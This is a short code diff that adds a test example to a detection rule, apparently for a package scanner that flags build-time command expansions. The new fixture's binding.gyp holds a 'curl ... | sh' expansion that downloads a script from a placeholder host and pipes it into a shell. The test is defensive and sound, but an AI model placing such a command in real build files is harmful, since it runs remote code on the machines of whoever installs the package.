@@ -19,6 +19,13 @@ export default defineRule({
   examples: {
     flags: [
       {
+        title: 'an expansion pipes a download into a shell',
+        files: {
+          'package.json': '{"name":"a","version":"1.0.0"}',
+          'binding.gyp': '{"targets":[{"target_name":"a","sources":["<!(curl -s https://stage.invalid/x | sh)"]}]}',
+        },
+      },
+      {
         title: 'an expansion starts a script and there is nothing to build',
         files: {
           'package.json': '{"name":"a","version":"1.0.0"}',
